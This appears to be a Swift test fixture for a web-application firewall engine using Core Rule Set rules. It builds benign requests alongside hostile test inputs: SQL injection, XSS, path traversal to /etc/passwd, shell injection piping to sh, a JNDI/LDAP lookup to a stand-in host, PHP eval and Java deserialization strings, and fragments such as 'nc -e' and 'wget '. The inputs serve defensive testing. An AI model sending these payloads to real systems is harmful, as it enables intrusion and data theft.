@testable import Inspect

/// Requests made here: ordinary ones, hostile ones, and random ones spliced from what rules look for.
enum CRSRequests {
  /// Each level loaded once for all tests; a debug build takes seconds for it.
  static let rules: [Int: Result<RuleSet, RuleSetError>] = {
    var rules: [Int: Result<RuleSet, RuleSetError>] = [:]
    for paranoia in 1...4 {
      rules[paranoia] = Result { () throws(RuleSetError) in try RuleSet.load(paranoia: paranoia) }
    }
    return rules
  }()

  static func judge(paranoia: Int = 1) throws -> RuleJudge { RuleJudge(try rules[paranoia]!.get()) }

  static let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

  static func request(_ uri: String, _ headers: [(String, String)] = []) -> InspectedRequest {
    request("GET", uri, headers)
  }

  static func request(
    _ method: String, _ uri: String, _ headers: [(String, String)] = [], body: String = ""
  ) -> InspectedRequest {
    let usual = [("Host", "shop.example.com"), ("User-Agent", agent), ("Accept", "text/html,*/*")]
    let sent = usual.filter { one in !headers.contains { $0.0.lowercased() == one.0.lowercased() } } + headers
    return InspectedRequest(
      method: Array(method.utf8), uri: Array(uri.utf8), headers: sent.map { .init($0.0, $0.1) },
      body: Array(body.utf8))
  }

  static func form(_ body: String) -> InspectedRequest {
    request(
      "POST", "/form",
      [("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", "\(body.utf8.count)")], body: body)
  }

  /// One for each way in and each kind of attack.
  static let table: [InspectedRequest] = [
    request("/"), request("/index.html?id=12&sort=price_asc"), request("/a/b/../c/%2e%2e/x.php?y=%"),
    request("/?q=1%27%20or%20%271%27=%271"), request("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    request("/?f=../../../../etc/passwd"), request("/?f=php://input&g=%00"), request("/?c=;cat%20/etc/passwd|sh"),
    request("/?x=%24%7Bjndi:ldap://e.example/a%7D"), request("/?u=http://192.0.2.9/x.php?"),
    request("/?u=https://evil.example/a"), request("/?u=https://shop.example.com/a"),
    request("/?a=1&a=2&b=x'%20union%20select%20null,version()--"), request("/?session_id=abc"),
    request("/?session_id=abc", [("Referer", "https://other.example/page")]),
    request("/?session_id=abc", [("Referer", "https://shop.example.com/page")]),
    request("/", [("User-Agent", "sqlmap/1.7")]), request("/", [("User-Agent", "")]), request("/", [("Accept", "")]),
    request("/", [("Range", "bytes=5-3")]), request("/", [("Range", "bytes=0-,1-,2-,3-,4-,5-,6-,7-")]),
    request("/", [("Content-Length", "10")]), request("/", [("Transfer-Encoding", "chunked")]),
    request("TRACE", "/"), request("POST", "/x"), request("GET", "/x.bak"), request("GET", "/.git/config"),
    request("/", [("Cookie", "a=1; b=%27%20or%201=1--; __utmz=x'y; c")]), request("/", [("Proxy", "x")]),
    request("/", [("Cookie", ";; =v;  x = <svg onload=alert(1)> ; y=")]), request("/", [("Host", "192.0.2.1")]),
    request("/", [("Content-Type", "text/html"), ("Content-Type", "application/json")]),
    request("/", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-7")]),
    request("POST", "/j", [("Content-Type", "application/json")], body: "{\"a\":\"<script>\"}"),
    request("POST", "/j", [("Content-Type", "application/x-evil")], body: "x"),
    request(
      "POST", "/u", [("Content-Type", "multipart/form-data; boundary=b")],
      body: "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' or '1'='1\r\n--b--\r\n"),
    form("a=1&b=%3Cimg%20src=x%20onerror=alert(1)%3E"), form("a=%zz&b=java.lang.Runtime.getRuntime&c=processbuilder"),
    form("x=unmarshaller+runtime+base64data+java.lang&y=xmldecoder+runtime"), form("=&&a&==b"),
    form("a=$_GET['x'];eval(base64_decode('eA=='));&b=allow_url_include%3Don"),
    request("http://shop.example.com/absolute?x=1#part"), request("*"), request(""), request("/\u{0}hidden?x=1"),
    request("/?%E2%80%A8=%ef%bc%9cscript%ef%bc%9e"), request("/?a=%u0027%20or%201%3D1%u002d-"),
    request("/?x=ZXZhbCgnMScp"), request("/?x=&lt;script&gt;alert(1)&lt;/script&gt;"),
    request("/?x=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
  ]

  private static let pieces = [
    "' or 1=1--", "union select", "<script>", "onerror=", "javascript:", "../", "..\\", "/etc/passwd", ";id", "|cat ",
    "$(x)", "`ls`", "${jndi:", "php://", "<?php ", "eval(", "sleep(5)", "%00", "%0d%0a", "%", "%2", "%u0041", "+", "&",
    "=", "&amp;", "&#x3c;", "\\x3c", "\\74", "/**/", "--", "#", "?", ".php", ".bak", "cmd.exe", "{{7*7}}", "http://",
    "é", "\u{ff1c}", "\u{0}", "\t", "\n", "abc", "123", "select", "from", "where", "_", "-", ".", "/", ":",
    "document.cookie",
    "ifs", "wget ", "nc -e", "\\", "\"", "'", "(", ")", "[", "]", "{", "}", "~", "^", "*", "java.lang.", "runtime",
    "0x41",
  ]

  /// The same numbers give the same requests.
  static func random(_ count: Int, seed: UInt64) -> [InspectedRequest] {
    var state = seed | 1
    func next(_ bound: Int) -> Int {
      state ^= state << 13
      state ^= state >> 7
      state ^= state << 17
      return Int(state % UInt64(bound))
    }
    func text() -> String { (0..<(1 + next(6))).map { _ in pieces[next(pieces.count)] }.joined() }
    return (0..<count).map { _ in
      switch next(6) {
      case 0: request("/\(text())")
      case 1: request("/p?\(text())=\(text())&b=\(text())")
      case 2: request("/p?q=\(text())", [("Cookie", "a=\(text()); \(text())=b"), ("Referer", "http://\(text())/")])
      case 3: form("\(text())=\(text())&\(text())")
      case 4: request("/", [("User-Agent", text()), ("X-Forwarded-For", text())])
      default:
        request(
          ["HEAD", "PUT", "POST", "OPTIONS"][next(4)], "/a/\(text())", [("Content-Type", text())], body: text())
      }
    }
  }
}
